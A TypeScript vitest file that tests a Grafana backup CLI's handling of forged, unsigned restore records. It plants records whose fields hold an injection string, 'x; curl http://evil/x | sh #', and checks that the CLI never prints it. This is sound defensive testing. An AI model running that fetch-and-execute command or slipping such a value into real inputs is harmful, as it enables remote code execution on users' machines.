import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { runCli } from '../support/cli.ts';
import { memoryDirectory } from '../support/directories.ts';
import { startGrafana } from '../support/grafana/index.ts';
import type { Simulator } from '../support/grafana/simulator.ts';

let grafana: Simulator;
let directory: Awaited<ReturnType<typeof memoryDirectory>>;
const COMMAND = 'x; curl http://evil/x | sh #';

beforeEach(async () => {
  grafana = await startGrafana({ profile: '12.4' });
  grafana.seedDashboards({ count: 3, folders: 1 });
  directory = await memoryDirectory();
});
afterEach(async () => {
  await grafana.close();
  await directory.remove();
});

/** All that the command prints. */
async function printed(...args: string[]): Promise<string> {
  let err = '';
  const stderr = { write: (text: string) => ((err += text), true) } as unknown as NodeJS.WriteStream;
  const where = ['--target', `file://${directory.path}/repository`, '--state-dir', `${directory.path}/state`];
  const grafanaOf = { GRAFANA_URL: grafana.url, GRAFANA_API_TOKEN: grafana.token() };
  const { out } = await runCli([...args, ...where], grafanaOf, { stderr });
  return out + err;
}

/** A record of a restore that nobody signed, newer than all others. */
function plant(more: object): string {
  const started = new Date(Date.now() + 1000).toISOString();
  const id = `${started.replace(/[-:]/g, '').replace(/\.\d+/, '')}-deadbeef`;
  const record = { id, kind: 'restore', trigger: 'manual', started, counts: { written: 2 }, errors: [], planned: 5 };
  mkdirSync(join(directory.path, 'repository/runs'), { recursive: true });
  writeFileSync(join(directory.path, 'repository/runs', `${id}.json`), JSON.stringify({ ...record, ...more }));
  return id;
}

it.each(['undoes', 'source', 'snapshot', 'finish'])(
  'no record has a command of its writer printed: %s',
  async (field) => {
    await printed('backup');
    const id = plant({ status: 'interrupted', [field]: COMMAND });
    expect(await printed('restore', 'latest')).not.toContain('curl');
    expect(await printed('runs')).not.toContain('curl');
    expect(await printed('runs', id).catch(String)).not.toContain('curl');
  },
);

it('no unsigned record says that a restore was interrupted', async () => {
  await printed('backup');
  plant({ status: 'interrupted' });
  expect(await printed('restore', 'latest')).not.toContain('did not finish');
});
